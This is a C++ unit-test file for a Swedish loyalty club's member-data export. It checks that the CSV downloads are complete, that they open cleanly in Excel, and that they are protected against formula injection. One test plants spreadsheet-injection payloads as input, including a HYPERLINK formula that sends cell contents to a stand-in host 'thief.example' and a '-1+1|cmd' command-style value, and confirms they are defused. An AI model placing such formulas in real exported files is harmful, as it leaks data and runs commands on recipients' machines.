// What a member takes along as tables: complete, and harmless to open.
#include "core/wire/download_csv.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <nlohmann/json.hpp>
#include <set>
#include <string>
#include <vector>

#include "core/wire/csv.h"
#include "core/wire/download_json.h"
#include "core/wire/member_json.h"
#include "core/wire/notice_json.h"
#include "tests/support/builders.h"
#include "tests/support/planted.h"
#include "tests/support/shipped_notice.h"

namespace samtycke::wire {
namespace {

using nlohmann::json;
using support::at;

const Instant exported = at("2026-03-14T09:26:00Z");

notice::Notice shipped_notice() {
  auto read = decode_notice_files(support::shipped_notice_files());
  SAMTYCKE_CHECK(read.ok());
  return std::move(read).value();
}

std::vector<CsvFile> files_of(const consent::MemberFile& file, const notice::Notice& notice) {
  return encode_download_csv(file, notice, support::swedish(), exported);
}

std::string text_of(const std::vector<CsvFile>& files, const std::string& name) {
  const auto found = std::find_if(files.begin(), files.end(),
                                  [&](const CsvFile& one) { return one.name == name; });
  if (found == files.end()) {
    ADD_FAILURE() << "there is no " << name;
    return {};
  }
  return found->text.substr(3);  // After the byte order mark.
}

// The cells of a table that has no quotes in it.
std::set<std::string> plain_cells(const std::vector<CsvFile>& files) {
  std::set<std::string> cells;
  for (const CsvFile& file : files) {
    EXPECT_EQ(file.text.find('"'), std::string::npos) << file.name;
    std::string cell;
    for (const char c : file.text) {
      if (c != ',' && c != '\r' && c != '\n') {
        cell += c;
        continue;
      }
      cells.insert(cell);
      cell.clear();
    }
  }
  return cells;
}

// Every value in a document, with the path to it; an amount as the tables write it, and a list of words as
// the one cell that it becomes.
void collect(const json& node, const std::string& path, std::vector<std::string>& found) {
  if (node.is_object()) {
    for (const auto& [key, value] : node.items()) collect(value, path + "/" + key, found);
  } else if (node.is_array() && !node.empty() && node[0].is_string()) {
    std::string all;
    for (const json& word : node) all += (all.empty() ? "" : " ") + word.get<std::string>();
    found.push_back(all);
  } else if (node.is_array()) {
    for (const json& one : node) collect(one, path, found);
  } else if (node.is_string()) {
    found.push_back(node.get<std::string>());
  } else if (path.ends_with("/amount")) {
    const auto minor = node.get<std::int64_t>();
    const std::string digits = std::to_string(minor);
    found.push_back(digits.substr(0, digits.size() - 2) + "." + digits.substr(digits.size() - 2));
  } else {
    found.push_back(std::to_string(node.get<std::int64_t>()));
  }
}

TEST(CsvDownload, HasEveryValueThatTheJsonHas) {
  const notice::Notice notice = shipped_notice();
  const consent::MemberFile file = support::planted_member(notice);
  std::vector<std::string> held;
  collect(json::parse(encode_download(file, notice, exported)), "", held);
  const std::set<std::string> cells = plain_cells(files_of(file, notice));
  EXPECT_GT(held.size(), 250U) << "the planted member holds little";
  for (const std::string& value : held) {
    if (value == "samtycke.member" || value == "1") continue;  // What kind of JSON document it is.
    EXPECT_TRUE(cells.contains(value)) << value;
  }
}

// A part that is added to what a club holds stops this from compiling, until it is planted in
// planted_member() and so looked for in all downloads.
TEST(CsvDownload, NoPartIsHeldThatIsNotPlanted) {
  const consent::MemberFile planted = support::planted_member(shipped_notice());
  const auto& [id, revision, holdings, decisions] = planted;
  const auto& [records, receipts, interactions] = holdings;
  for (const auto& [field, value, source, when] : records) {
    EXPECT_TRUE(!field.empty() && !value.empty() && when.utc_ms != 0) << key(source);
  }
  for (const auto& [number, when, store, source, lines] : receipts) {
    EXPECT_TRUE(!number.empty() && when.utc_ms != 0) << key(source);
    for (const auto& [article, topic, quantity, amount] : lines) {
      EXPECT_TRUE(!article.empty() && !topic.empty() && quantity != 1 && amount.minor != 0);
    }
  }
  for (const auto& [number, when, kind, about, topic, source] : interactions) {
    EXPECT_TRUE(!number.empty() && !about.empty() && !topic.empty() && when.utc_ms != 0)
        << key(kind) << key(source);
  }
  std::set<std::size_t> acts;
  for (const auto& [act, version, language, text_sha256, way, actor, when] : decisions) {
    acts.insert(act.index());
    EXPECT_TRUE(version != 0 && !language.empty() && !text_sha256.empty() && !actor.empty() &&
                when.utc_ms != 0)
        << key(way);
  }
  EXPECT_EQ(acts.size(), std::variant_size_v<consent::Act>) << "an act is not planted";
  EXPECT_TRUE(!id.empty() && revision != 0);
}

TEST(JsonDownload, IsTheWholeMember) {
  const notice::Notice notice = shipped_notice();
  const consent::MemberFile file = support::planted_member(notice);
  const json download = json::parse(encode_download(file, notice, exported));
  const auto read = decode_member_file(download["member"].dump());
  ASSERT_TRUE(read.ok()) << read.reason().pointer;
  EXPECT_EQ(read.value(), file);
}

TEST(CsvDownload, HasAFileForEachCategoryAndEachKindOfRow) {
  std::string names;
  const notice::Notice notice = support::small_notice();
  for (const CsvFile& file : files_of(support::joined_member(), notice)) names += file.name + "\n";
  EXPECT_EQ(names,
            "member.csv\n"
            "categories/identity.csv\n"
            "categories/membership.csv\n"
            "categories/contact.csv\n"
            "categories/receipts.csv\n"
            "categories/demographics.csv\n"
            "categories/user_generated.csv\n"
            "purchases.csv\n"
            "interactions.csv\n"
            "decisions.csv\n");
}

TEST(CsvDownload, ReadsLikeTheClub) {
  consent::MemberFile file = support::joined_member();
  file.holdings.records.push_back(
      {FieldId{"amount_spent"}, "-5", member::Source::till, at("2026-01-01T00:00:00Z")});
  const auto files = files_of(file, support::small_notice());
  EXPECT_EQ(text_of(files, "categories/identity.csv"),
            "field,name,value,source,at\r\n"
            "given_name,Förnamn,Åsa,member,2024-03-03T10:00:00Z\r\n"
            "family_name,Efternamn,Lindqvist,member,2024-03-03T10:00:00Z\r\n");
  EXPECT_EQ(text_of(files, "categories/receipts.csv"),
            "field,name,value,source,at\r\n"
            "amount_spent,Spenderat belopp,-0.05,till,2026-01-01T00:00:00Z\r\n");
  EXPECT_EQ(text_of(files, "purchases.csv"),
            "number,at,store,source,line,article,topic,quantity,amount,currency\r\n"
            "B-1,2025-03-14T15:00:00Z,Borås Viskastrand,till,1,Örngott linne,sleep,2,398.00,SEK\r\n"
            "B-1,2025-03-14T15:00:00Z,Borås Viskastrand,till,2,Handduk frotté,bath,1,149.00,SEK\r\n"
            "B-2,2025-11-28T09:30:00Z,,website,1,Påslakan,sleep,1,599.00,SEK\r\n");
  EXPECT_EQ(text_of(files, "interactions.csv"),
            "number,at,kind,about,topic,source\r\n"
            "W-1,2026-02-01T19:05:00Z,visit,/sova/paslakan,sleep,website\r\n");
  EXPECT_TRUE(text_of(files, "decisions.csv")
                  .starts_with("act,sender,channel,purpose,category,fields,notice_version,language,"
                               "text_sha256,way,actor,at\r\njoin,,,,,,1,sv,"));
  EXPECT_EQ(
      text_of(files, "member.csv"),
      "id,revision,exported_at,club,legal_name,notice_version\r\n"
      "0123456789abcdef0123456789abcdef,1,2026-03-14T09:26:00Z,Linnegården,Linnegården AB,1\r\n");
}

TEST(CsvDownload, AReceiptWithoutLinesAndAValueOfNoFieldAreThere) {
  consent::MemberFile file;
  file.holdings.receipts.push_back(
      {"B-9", at("2026-01-01T10:00:00Z"), "Kiosk", member::Source::till, {}});
  file.holdings.records.push_back(
      {FieldId{"shoe_size"}, "41", member::Source::club, at("2026-01-01T10:00:00Z")});
  const auto files = files_of(file, support::small_notice());
  EXPECT_NE(
      text_of(files, "purchases.csv").find("\r\nB-9,2026-01-01T10:00:00Z,Kiosk,till,,,,,,\r\n"),
      std::string::npos)
      << text_of(files, "purchases.csv");
  EXPECT_NE(text_of(files, "other.csv").find("\r\nshoe_size,,41,club,"), std::string::npos);
}

TEST(CsvDownload, OpensInExcelAsWhatItIs) {
  for (const CsvFile& file : files_of(support::joined_member(), support::small_notice())) {
    EXPECT_TRUE(file.text.starts_with("\xEF\xBB\xBF")) << file.name;
    EXPECT_TRUE(file.text.ends_with("\r\n")) << file.name;
    for (std::size_t i = file.text.find('\n'); i != std::string::npos;
         i = file.text.find('\n', i + 1)) {
      EXPECT_EQ(file.text[i - 1], '\r') << file.name;
    }
  }
}

TEST(CsvDownload, NoCellIsAFormula) {
  consent::MemberFile file = support::small_member();
  file.holdings.records[0].value = "=HYPERLINK(\"https://thief.example/\"&A1)";
  file.holdings.receipts[0].store = "@SUM(A1)";
  file.holdings.receipts[0].lines[0].article = "-1+1|cmd";
  file.holdings.receipts[0].lines[0].amount.minor = -59900;
  const auto files = files_of(file, support::small_notice());
  EXPECT_NE(text_of(files, "categories/identity.csv")
                .find(",\"'=HYPERLINK(\"\"https://thief.example/\"\"&A1)\","),
            std::string::npos);
  const std::string purchases = text_of(files, "purchases.csv");
  EXPECT_NE(purchases.find(",'@SUM(A1),till,1,'-1+1|cmd,sleep,2,-599.00,SEK\r\n"),
            std::string::npos)
      << purchases;
}

TEST(CsvCell, WhatStartsAFormulaGetsAnApostropheAndANumberDoesNot) {
  for (const char* formula : {"=1", "+1+1", "+", "+46 70", "-1+1", "@a", "\ta", "\ra", "\n=a", "-",
                              "-.5", "-5.", "--5", "-5e3", "-1.2.3"}) {
    EXPECT_EQ(harmless_cell(formula), "'" + std::string(formula)) << formula;
  }
  for (const char* plain : {"", "a", "a=b", "0", "12", "-599.00", "+46701234567", "0.05", "'",
                            " =1", "a-b@c.se", "1-2", "'=1"}) {
    EXPECT_EQ(harmless_cell(plain), plain);
  }
  // Excel in Swedish splits a cell at a semicolon.
  EXPECT_EQ(harmless_cell("lakan;=1+1;-2;x"), "lakan;'=1+1;'-2;x");
}

TEST(CsvRow, QuotesWhatWouldEndACell) {
  EXPECT_EQ(csv_row({"a", "b,c", "d\"e", "f\r\ng", ""}), "a,\"b,c\",\"d\"\"e\",\"f\r\ng\",\r\n");
  EXPECT_EQ(csv_row({"a,b", "c;d"}, ';'), "a,b;\"c;d\"\r\n");
}

}  // namespace
}  // namespace samtycke::wire
